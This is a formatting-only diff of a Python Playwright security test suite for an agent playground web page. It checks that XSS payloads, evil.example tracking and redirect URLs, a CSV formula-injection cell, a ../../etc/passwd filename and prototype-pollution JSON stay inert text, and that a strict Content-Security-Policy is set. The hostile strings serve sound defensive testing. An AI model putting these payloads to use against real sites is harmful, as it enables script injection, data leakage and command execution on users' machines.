@@ -18,10 +18,10 @@ SCRIPT = "window.hacked=1;parent.hacked=1;top.hacked=1;document.title='hacked';f
 
 HOSTILE_TEXTS = [
     f"<script>{SCRIPT}</script>",
-    f"<img src=x onerror=\"{SCRIPT}\">",
+    f'<img src=x onerror="{SCRIPT}">',
     "<img src='https://evil.example/pixel.png'>",
-    f"<svg onload=\"{SCRIPT}\"></svg>",
-    f"<iframe srcdoc=\"<script>{SCRIPT}</script>\"></iframe>",
+    f'<svg onload="{SCRIPT}"></svg>',
+    f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
     "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
     "<base href='https://evil.example/'>",
     "<style>@import 'https://evil.example/style.css'; body{display:none}</style>",
@@ -36,10 +36,10 @@ HOSTILE_TEXTS = [
     "[click](blob:https://evil.example/x)",
     "[click](//evil.example/x)",
     "<javascript:window.hacked=1>",
-    "<https://evil.example/\"onmouseover=\"window.hacked=1>",
-    "[a](https://evil.example/\"onclick=\"window.hacked=1)",
+    '<https://evil.example/"onmouseover="window.hacked=1>',
+    '[a](https://evil.example/"onclick="window.hacked=1)',
     "```html\n<script>window.hacked=1</script>\n```",
-    "```\"><script>window.hacked=1</script>\ntext\n```",
+    '```"><script>window.hacked=1</script>\ntext\n```',
     "| <script>window.hacked=1</script> | b |\n|---|---|\n| <img src=x onerror=window.hacked=1> | \ue0001\ue001 |",
     "# <img src=x onerror=window.hacked=1>",
     "- [x] <img src=x onerror=window.hacked=1>",
@@ -55,23 +55,82 @@ SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org
 
 HOSTILE_PARTS: list[dict[str, Any]] = [
     {"name": "x.svg", "content_type": "image/svg+xml", "content": SVG},
-    {"name": "x.svg", "content_type": "image/svg+xml", "content": f"<!DOCTYPE svg [<!ENTITY x '<script>{SCRIPT}</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>"},
-    {"name": "x.html", "content_type": "text/html", "content": f"<h1>Hello</h1><script>{SCRIPT}</script><img src='https://evil.example/p.png'><link rel=stylesheet href='https://evil.example/s.css'><link rel=preconnect href='https://evil.example'>"},
-    {"name": "x.html", "content_type": "text/html", "content": "<a id=link href='https://evil.example/' target=_top>x</a><form action='https://evil.example/'><input name=a><button id=send>x</button></form><iframe src='https://evil.example/'></iframe>"},
-    {"name": "x.xhtml", "content_type": "application/xhtml+xml", "content": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{SCRIPT}</script></html>"},
-    {"name": "x.png", "content_type": "image/png", "content": base64.b64encode(SVG.encode()).decode(), "content_encoding": "base64"},
+    {
+        "name": "x.svg",
+        "content_type": "image/svg+xml",
+        "content": f"<!DOCTYPE svg [<!ENTITY x '<script>{SCRIPT}</script>'>]><svg xmlns='http://www.w3.org/2000/svg'>&x;</svg>",
+    },
+    {
+        "name": "x.html",
+        "content_type": "text/html",
+        "content": f"<h1>Hello</h1><script>{SCRIPT}</script><img src='https://evil.example/p.png'><link rel=stylesheet href='https://evil.example/s.css'><link rel=preconnect href='https://evil.example'>",
+    },
+    {
+        "name": "x.html",
+        "content_type": "text/html",
+        "content": "<a id=link href='https://evil.example/' target=_top>x</a><form action='https://evil.example/'><input name=a><button id=send>x</button></form><iframe src='https://evil.example/'></iframe>",
+    },
+    {
+        "name": "x.xhtml",
+        "content_type": "application/xhtml+xml",
+        "content": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{SCRIPT}</script></html>",
+    },
+    {
+        "name": "x.png",
+        "content_type": "image/png",
+        "content": base64.b64encode(SVG.encode()).decode(),
+        "content_encoding": "base64",
+    },
     {"name": "x.png", "content_type": "image/png", "content": "not base64!!", "content_encoding": "plain"},
     {"name": "x.mp3", "content_type": "audio/mpeg", "content": "AAAA", "content_encoding": "base64"},
-    {"name": "x.pdf", "content_type": "application/pdf", "content": base64.b64encode(f"<script>{SCRIPT}</script>".encode()).decode(), "content_encoding": "base64"},
-    {"name": "x.json", "content_type": "application/json", "content": '{"__proto__": {"hacked": 1}, "<img src=x onerror=window.hacked=1>": "<script>window.hacked=1</script>"}'},
-    {"name": "x.csv", "content_type": "text/csv", "content": "<script>window.hacked=1</script>,=cmd|'/c calc'!A1\n<img src=x onerror=window.hacked=1>,2"},
+    {
+        "name": "x.pdf",
+        "content_type": "application/pdf",
+        "content": base64.b64encode(f"<script>{SCRIPT}</script>".encode()).decode(),
+        "content_encoding": "base64",
+    },
+    {
+        "name": "x.json",
+        "content_type": "application/json",
+        "content": '{"__proto__": {"hacked": 1}, "<img src=x onerror=window.hacked=1>": "<script>window.hacked=1</script>"}',
+    },
+    {
+        "name": "x.csv",
+        "content_type": "text/csv",
+        "content": "<script>window.hacked=1</script>,=cmd|'/c calc'!A1\n<img src=x onerror=window.hacked=1>,2",
+    },
     {"name": "x.md", "content_type": "text/markdown", "content": "\n\n".join(HOSTILE_TEXTS)},
-    {"name": "<img src=x onerror=window.hacked=1>", "content_type": "text/x-<img src=x onerror=window.hacked=1>", "content": "x"},
-    {"name": "../../etc/passwd", "content_type": "application/octet-stream", "content": "AAAA", "content_encoding": "base64"},
+    {
+        "name": "<img src=x onerror=window.hacked=1>",
+        "content_type": "text/x-<img src=x onerror=window.hacked=1>",
+        "content": "x",
+    },
+    {
+        "name": "../../etc/passwd",
+        "content_type": "application/octet-stream",
+        "content": "AAAA",
+        "content_encoding": "base64",
+    },
     {"name": "remote.png", "content_type": "image/png", "content_url": "https://evil.example/pixel.png"},
     {"name": "script.png", "content_type": "image/png", "content_url": "javascript:window.hacked=1"},
-    {"content": "", "metadata": {"kind": "citation", "url": "javascript:window.hacked=1", "title": "<img src=x onerror=window.hacked=1>", "description": "<script>window.hacked=1</script>"}},
-    {"content": "", "metadata": {"kind": "trajectory", "message": "<img src=x onerror=window.hacked=1>", "tool_name": "<b>x</b>", "tool_input": {"<img src=x>": "<script>"}}},
+    {
+        "content": "",
+        "metadata": {
+            "kind": "citation",
+            "url": "javascript:window.hacked=1",
+            "title": "<img src=x onerror=window.hacked=1>",
+            "description": "<script>window.hacked=1</script>",
+        },
+    },
+    {
+        "content": "",
+        "metadata": {
+            "kind": "trajectory",
+            "message": "<img src=x onerror=window.hacked=1>",
+            "tool_name": "<b>x</b>",
+            "tool_input": {"<img src=x>": "<script>"},
+        },
+    },
 ]
 
 
@@ -81,8 +140,12 @@ def check(page: Page, title: str) -> None:
     assert page.title() == title
     assert page.locator("script:not([src])").count() == 0
     # Nothing but what the page itself makes: its icon, and images of contents.
-    sources = page.locator("img, iframe, audio, video, link, script").evaluate_all("(all) => all.map((each) => each.src || each.href)")
-    assert all(re.match(rf"(blob:)?{re.escape(page.evaluate('location.origin'))}/|data:", source) for source in sources), sources
+    sources = page.locator("img, iframe, audio, video, link, script").evaluate_all(
+        "(all) => all.map((each) => each.src || each.href)"
+    )
+    assert all(
+        re.match(rf"(blob:)?{re.escape(page.evaluate('location.origin'))}/|data:", source) for source in sources
+    ), sources
     links = page.locator("a").evaluate_all("(all) => all.map((each) => each.href)")
     assert all(link.startswith(("http://", "https://", "mailto:")) for link in links), links
     handlers = page.evaluate(
@@ -132,10 +195,16 @@ def test_hostile_metadata_of_agents_and_errors_remain_texts(open_page: Open, ser
     page = open_page()
     evil = "<img src=x onerror=window.hacked=1>"
     manifest = {
-        "name": "evil", "description": evil, "input_content_types": [evil], "output_content_types": [evil],
+        "name": "evil",
+        "description": evil,
+        "input_content_types": [evil],
+        "output_content_types": [evil],
         "metadata": {
-            "documentation": "\n\n".join(HOSTILE_TEXTS), "tags": [evil], "author": {"name": evil, "url": "javascript:window.hacked=1"},
-            "links": [{"type": evil, "url": "javascript:window.hacked=1"}], "annotations": {evil: evil},
+            "documentation": "\n\n".join(HOSTILE_TEXTS),
+            "tags": [evil],
+            "author": {"name": evil, "url": "javascript:window.hacked=1"},
+            "links": [{"type": evil, "url": "javascript:window.hacked=1"}],
+            "annotations": {evil: evil},
         },
     }
     page.route("**/agents/evil", lambda route: route.fulfill(json=manifest))
@@ -143,7 +212,10 @@ def test_hostile_metadata_of_agents_and_errors_remain_texts(open_page: Open, ser
     expect(page.get_by_text(evil).first).to_be_visible()
     open_details(page)
     check(page, "evil · Agents · Playground")
-    page.route("**/agents/evil", lambda route: route.fulfill(status=404, json={"code": evil, "message": f"<script>{SCRIPT}</script>"}))
+    page.route(
+        "**/agents/evil",
+        lambda route: route.fulfill(status=404, json={"code": evil, "message": f"<script>{SCRIPT}</script>"}),
+    )
     page.reload()
     expect(page.get_by_role("alert")).to_contain_text("<script>")
     check(page, "evil · Agents · Playground")
@@ -152,10 +224,17 @@ def test_hostile_metadata_of_agents_and_errors_remain_texts(open_page: Open, ser
 def test_the_policy_forbids_what_the_page_does_not_need(server: Server) -> None:
     response = httpx.get(f"{server.url}/playground/")
     policy = dict(part.partition(" ")[::2] for part in response.headers["Content-Security-Policy"].split("; "))
-    assert policy["default-src"] == "'none'" and policy["script-src"] == policy["style-src"] == policy["connect-src"] == "'self'"
-    assert policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == policy["trusted-types"] == "'none'"
+    assert (
+        policy["default-src"] == "'none'"
+        and policy["script-src"] == policy["style-src"] == policy["connect-src"] == "'self'"
+    )
+    assert (
+        policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == policy["trusted-types"] == "'none'"
+    )
     assert "unsafe" not in response.headers["Content-Security-Policy"]
-    assert response.headers["X-Content-Type-Options"] == "nosniff" and response.headers["Referrer-Policy"] == "no-referrer"
+    assert (
+        response.headers["X-Content-Type-Options"] == "nosniff" and response.headers["Referrer-Policy"] == "no-referrer"
+    )
 
 
 def test_the_sources_contain_no_inline_script_and_no_address_elsewhere() -> None:
@@ -165,7 +244,9 @@ def test_the_sources_contain_no_inline_script_and_no_address_elsewhere() -> None
         if not file.is_file():
             continue
         text = file.read_text(encoding="utf-8")
-        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", text), file
+        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function", text), (
+            file
+        )
         if file.suffix == ".html":
             assert not re.search(r"<script(?![^>]*\bsrc=)|\son\w+=|\sstyle=|<style", text)
         addresses = {address for address in re.findall(r"https?://[^\s\"'`)<>]+", text) if "www.w3.org" not in address}
